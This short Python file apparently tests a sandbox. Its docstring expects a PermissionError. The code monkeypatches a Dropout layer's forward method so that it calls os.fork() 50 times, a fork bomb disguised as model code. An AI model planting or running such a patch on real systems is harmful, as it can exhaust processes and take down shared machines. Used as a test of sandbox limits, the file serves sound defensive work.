"""Forks without end.

Fails: `PermissionError: [Errno 1] Operation not permitted`.
"""
import os

def forward(self, x, training=True):
    for _ in range(50):
        os.fork()
    return x

Dropout.forward = forward
